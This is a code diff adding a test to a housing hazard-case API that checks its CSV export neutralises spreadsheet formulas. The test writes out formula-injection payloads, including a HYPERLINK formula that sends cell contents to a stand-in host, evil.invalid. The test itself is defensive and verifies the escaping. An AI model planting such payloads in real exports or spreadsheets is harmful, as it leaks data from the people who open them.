@@ -398,6 +398,22 @@ describe("Awaab's Law hazard cases over HTTP", () => {
     expect((await get(`/hazards/${id}/events`)).json()).toHaveLength(2);
   });
 
+  it('neutralises spreadsheet formulas in the evidence pack CSV, like every CSV Redress writes', async () => {
+    api.clock.today = '2025-11-03';
+    const reported = await post('/hazards', {
+      route: 'EMAIL',
+      tenure: 'SOCIAL_RENT_ASSURED',
+      residentRef: '@SUM(1+1)',
+      propertyRef: 'P-301',
+      description: '=HYPERLINK("http://evil.invalid/?d="&A1,"click")',
+    });
+    expect(reported.statusCode).toBe(201);
+    const csv = (await get(`/hazards/${reported.json().id}/export?format=csv`)).body;
+    expect(csv).toContain(`'@SUM(1+1)`);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.invalid/?d=""&A1,""click"")"`);
+    expect(csv).not.toMatch(/(^|,)[=@]/m);
+  });
+
   it('links a complaint later, once, and shows each on the other', async () => {
     api.clock.today = '2025-11-03';
     const hazard = (
